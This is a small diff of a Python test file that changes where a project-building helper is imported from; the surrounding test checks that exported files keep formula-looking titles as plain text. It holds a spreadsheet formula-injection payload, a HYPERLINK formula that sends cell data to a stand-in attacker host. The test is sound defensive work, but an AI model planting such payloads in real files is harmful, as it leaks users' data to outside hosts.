@@ -72,7 +72,7 @@ def test_it_only_answers_get(client, bob):
 
 
 def test_its_files_keep_text_that_looks_like_a_formula_as_text(client, bob, alice):
-    from tests.conftest import make_project
+    from tests.builders import make_project
 
     title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     make_project(key="EVIL", title=title, researcher=alice, product_manager=bob)
